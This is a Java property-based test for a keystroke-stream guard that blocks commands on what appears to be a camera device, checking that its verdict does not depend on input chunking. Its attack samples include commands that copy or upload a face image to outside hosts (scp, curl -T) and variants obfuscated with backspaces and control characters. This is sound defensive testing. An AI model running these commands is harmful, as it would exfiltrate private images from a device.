package org.sallyport.policy.guard;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** The input side's verdict does not depend on how keystrokes are cut into chunks. */
class StreamGuardPropertiesTest {
  private static final InstantSource EPOCH = InstantSource.fixed(Instant.EPOCH);

  @Provide
  Arbitrary<String> benignLine() {
    return Arbitraries.of("ls -la /var/log", "tail -n 50 /var/log/messages", "uptime",
        "cat /etc/ipcam.conf", "ip addr", "echo done", "grep -i err /var/log/syslog | wc -l",
        "uptimx\u007f\u007fme", "ping -c 1 10.0.0.1", "ls\u001b[D\u001b[Cx", "vi /etc/hosts");
  }

  @Provide
  Arbitrary<String> attackLine() {
    return Arbitraries.of("scp /var/cam/face.jpg x@203.0.113.9:", "base64 face.jpg",
        "lsx\u007f\u007f\u007fxxd face.jpg", "p a b:\u0001sc", "curl -T face.jpg http://x/",
        "tar czf - /var/cam", "sc\tface.jpg x:");
  }

  @Provide
  Arbitrary<List<Integer>> chunkSizes() {
    return Arbitraries.integers().between(1, 40).list().ofMinSize(1).ofMaxSize(30);
  }

  @Property(tries = 300)
  void firstVerdictIsTheSameForAnyChunking(
      @ForAll("benignLine") String before,
      @ForAll("attackLine") String attack,
      @ForAll("benignLine") String after,
      @ForAll("chunkSizes") List<Integer> sizes) {
    byte[] keys = (before + "\r" + attack + "\r" + after + "\r").getBytes(StandardCharsets.ISO_8859_1);
    GuardVerdict whole = firstNonPass(keys, List.of(keys.length));
    GuardVerdict split = firstNonPass(keys, sizes);
    assertThat(whole).isNotNull();
    assertThat(split).isNotNull();
    assertThat(List.of(split.action(), split.ruleId(), split.offset()))
        .isEqualTo(List.of(whole.action(), whole.ruleId(), whole.offset()));
    assertThat(whole.offset()).isEqualTo(before.length() + 1 + attack.length());
  }

  private static GuardVerdict firstNonPass(byte[] keys, List<Integer> sizes) {
    StreamGuard g = new StreamGuard(GuardRules.defaults(), true, EPOCH);
    int off = 0;
    int k = 0;
    while (off < keys.length) {
      int n = Math.min(sizes.get(k++ % sizes.size()), keys.length - off);
      GuardVerdict v = g.input(keys, off, n);
      if (!v.passed()) {
        return v;
      }
      off += n;
    }
    return null;
  }
}
